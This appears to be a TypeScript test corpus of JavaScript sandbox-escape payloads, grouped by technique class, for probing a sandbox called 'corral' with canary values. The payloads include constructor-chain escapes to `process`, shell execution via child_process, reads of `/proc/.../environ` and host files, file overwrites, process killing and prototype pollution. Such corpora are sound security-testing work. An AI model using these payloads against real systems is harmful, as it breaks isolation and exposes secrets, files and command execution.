/** The technique classes of the sandbox literature and advisories, each with payloads. README.md has the sources. */
export interface TechniqueClass {
  readonly id: string;
  readonly payloads: readonly string[];
}

/** Tries to get from a value to a host: its constructor's constructor, and what that sees. */
const REACH = `const reach = (value) => { try { const F = value?.constructor?.constructor; const g = F?.('return globalThis')(); return g?.process?.env?.[canary.variable] ?? (g !== undefined && g !== globalThis ? 'another realm' : 'nothing') } catch (error) { return String(error) } };`;

export const CLASSES: readonly TechniqueClass[] = [
  {
    id: 'constructor-chains',
    payloads: [
      `this.constructor.constructor('return process')().env[canary.variable]`,
      `${REACH} reach(canary) + reach(async () => 1) + reach(function* () {}) + reach(async function* () {}) + reach(Symbol.iterator)`,
      `${REACH} typeof corral === 'undefined' ? 'none' : reach(corral) + reach(corral.effect) + reach(corral.errorClass('Denied'))`,
    ],
  },
  {
    id: 'call-sites',
    payloads: [
      `Error.prepareStackTrace = (e, sites) => sites.map((site) => [site.getThis(), site.getFunction()].map((one) => one?.constructor?.constructor?.('return typeof process')())).join(); new Error().stack`,
      `Error.prepareStackTrace = (e, sites) => sites; const sites = new Error().stack; sites.map((site) => site.getFileName() + typeof site.getThis()).join()`,
      `const o = {}; Error.captureStackTrace(o); Error.prepareStackTrace = (_, sites) => { throw sites }; try { null.x } catch (error) { String(error.stack) }`,
    ],
  },
  {
    id: 'error-cause',
    payloads: [
      `${REACH} try { throw new Error('a', { cause: globalThis }) } catch (error) { reach(error.cause) + reach(error) }`,
      `throw new Error('x', { get cause() { return canary } })`,
    ],
  },
  {
    id: 'host-exceptions',
    payloads: [
      `${REACH} const out = []; const deep = (n) => { try { return deep(n + 1) } catch (error) { out.push(reach(error)); throw error } }; try { new Array(-1) } catch (error) { out.push(reach(error)) } out.join()`,
      `${REACH} try { corral.effect({ kind: 'log', level: 'info', text: 1n }) } catch (error) { reach(error) }`,
      `${REACH} try { corral.effect() } catch (error) { reach(error) }`,
    ],
  },
  {
    id: 'proxies-across-the-boundary',
    payloads: [
      `new Proxy({}, { get: (t, key) => { throw new Proxy(function () {}, { apply: (...all) => all, construct: (...all) => all }) } })`,
      `throw new Proxy(new Error('x'), { get(t, key, self) { return key === 'stack' ? { toString: () => self } : Reflect.get(t, key) } })`,
    ],
  },
  {
    id: 'species',
    payloads: [
      `class A extends Array { static get [Symbol.species]() { return function () { return globalThis } } } String(new A(1, 2).map((x) => x).process?.env)`,
      `Object.defineProperty(Promise, Symbol.species, { get() { return function (f) { f(canary, canary) } } }); String(await Promise.resolve(1).then((x) => x).catch(String))`,
    ],
  },
  {
    id: 'thenables',
    payloads: [
      `({ then(resolve, reject) { try { resolve(resolve.constructor('return process')().env[canary.variable]) } catch (error) { reject(error) } } })`,
      `Object.prototype.then = function (f) { delete Object.prototype.then; f(f.constructor.constructor('return typeof process')()) }; ({})`,
    ],
  },
  {
    id: 'async-generators',
    payloads: [
      `const g = (async function* () { yield 1 })(); const p = Object.getPrototypeOf(Object.getPrototypeOf(Object.getPrototypeOf(g))); p.next = function (...all) { return all }; String(Object.getPrototypeOf(g).constructor) + (await g.return({ get then() { return undefined } })).value`,
      `async function* f() { yield* { [Symbol.asyncIterator]() { return { next: () => ({ get value() { return canary.file }, done: true }) } } } } String((await f().next()).value === canary.file)`,
    ],
  },
  {
    id: 'dynamic-import',
    payloads: [
      `(await import('node:fs')).readFileSync(canary.file, 'utf8')`,
      `(await import('data:text/javascript,export default process.env')).default`,
      `new Function('return import("node:child_process")')().then((m) => m.execSync('cat ' + canary.file) + '')`,
      `require('node:fs').readFileSync(canary.file, 'utf8')`,
    ],
  },
  {
    id: 'functions-of-other-realms',
    payloads: [
      `${REACH} [console.log, setTimeout, queueMicrotask, structuredClone, performance.now, TextEncoder, URL, crypto?.randomUUID].map(reach).join()`,
      `const F = Object.getPrototypeOf(setTimeout).constructor; F('return typeof process')()`,
    ],
  },
  {
    id: 'webassembly',
    payloads: [
      `new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])) && String(new WebAssembly.Memory({ initial: 60000 }).buffer.byteLength)`,
      `await WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))`,
    ],
  },
  {
    id: 'shared-memory',
    payloads: [
      `const b = new SharedArrayBuffer(8); Atomics.wait(new Int32Array(b), 0, 0, 10)`,
      `const { Worker } = require('node:worker_threads'); new Worker('require("fs").readFileSync(' + JSON.stringify(canary.file) + ')', { eval: true }); 'started'`,
    ],
  },
  {
    id: 'host-promises',
    payloads: [
      `${REACH} const p = corral.effect({ kind: 'timer', id: 'next', ms: 1 }); reach(p) + reach(p.constructor) + reach(p.then)`,
      `Promise.prototype.then = function (f, r) { try { return f?.(f.constructor('return process')()) } catch {} }; await 1; 'none'`,
    ],
  },
  {
    id: 'symbols-of-inspection',
    payloads: [
      `const s = Symbol.for('nodejs.util.inspect.custom'); const o = { [s](depth, options, inspect) { return inspect?.constructor?.('return process')().env[canary.variable] } }; console.log(o); throw Object.assign(new Error('x'), o)`,
      `const o = { [Symbol.for('nodejs.rejection')]: (e) => e, [Symbol.toPrimitive]: () => canary.file }; console.log('%s %d %j', o, o, o); 'logged'`,
    ],
  },
  {
    id: 'getters-on-results',
    payloads: [
      `({ get returned() { return globalThis.process?.env }, toJSON() { return this.constructor.constructor('return typeof process')() } })`,
      `let n = 0; ({ get a() { n++; return n > 1 ? { outcome: { kind: 'completed' } } : 1 } })`,
    ],
  },
  {
    id: 'prototype-pollution',
    payloads: [
      `JSON.parse('{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}')`,
      `Object.prototype.env = { NODE_OPTIONS: '--inspect' }; Object.prototype.shell = '/bin/sh'; ({ ['__proto__']: { polluted: 1 } })`,
      `corral.effect({ kind: 'emit', event: '__proto__', data: JSON.parse('{"__proto__":{"polluted":true}}') }); ({}).polluted`,
    ],
  },
  {
    id: 'deep-structures',
    payloads: [
      `let deep = {}; for (let i = 0; i < 1e5; i++) deep = { deep }; deep`,
      `'['.repeat(1e5) + ']'.repeat(1e5)`,
      `const a = []; a.push(a); a`,
    ],
  },
  {
    id: 'stack-overflow-in-the-host',
    payloads: [
      `const deep = () => { try { deep() } catch (error) { return corral.effect({ kind: 'log', level: 'info', text: 'x' }) } }; deep(); 'survived'`,
    ],
  },
  {
    id: 'tampered-intrinsics',
    payloads: [
      `Function.prototype.call = Function.prototype.apply = function () { return this.constructor('return process')() }; Array.prototype.push = function (x) { globalThis.leak = x }; String(globalThis.leak)`,
      `Object.prototype.get = function (target) { return target?.constructor?.('return process')() }; String(Date.now)`,
    ],
  },
  {
    id: 'process-bindings',
    payloads: [
      `process.binding('fs')`,
      `process.dlopen({ exports: {} }, '/lib/x86_64-linux-gnu/libc.so.6')`,
      `process.mainModule.require('child_process').execSync('cat ' + canary.file)`,
      `process.kill(canary.host, 'SIGKILL')`,
      `require('node:child_process').spawn('/bin/sleep', ['60'], { detached: true, stdio: 'ignore' }).unref(); 'left'`,
    ],
  },
  {
    id: 'native-modules',
    payloads: [
      `const ivm = require('isolated-vm'); const i = new ivm.Isolate(); i.createContextSync().evalSync('1')`,
      `new (require('node:vm').Script)('process').runInThisContext().env[canary.variable]`,
    ],
  },
  {
    id: 'files-of-the-host',
    payloads: [
      `require('node:fs').readFileSync('/proc/' + canary.host + '/environ', 'utf8')`,
      `require('node:fs').writeFileSync(canary.file, 'owned')`,
      `require('node:fs').readdirSync(require('node:path').dirname(canary.file))`,
    ],
  },
  {
    id: 'network',
    payloads: [
      `await new Promise((resolve, reject) => require('node:net').connect(9, '127.0.0.1').on('connect', resolve).on('error', reject))`,
      `await fetch('http://127.0.0.1:9/')`,
    ],
  },
  {
    id: 'inspector',
    payloads: [`require('node:inspector').open(0); require('node:inspector').url()`, `process._debugProcess(canary.host)`],
  },
];
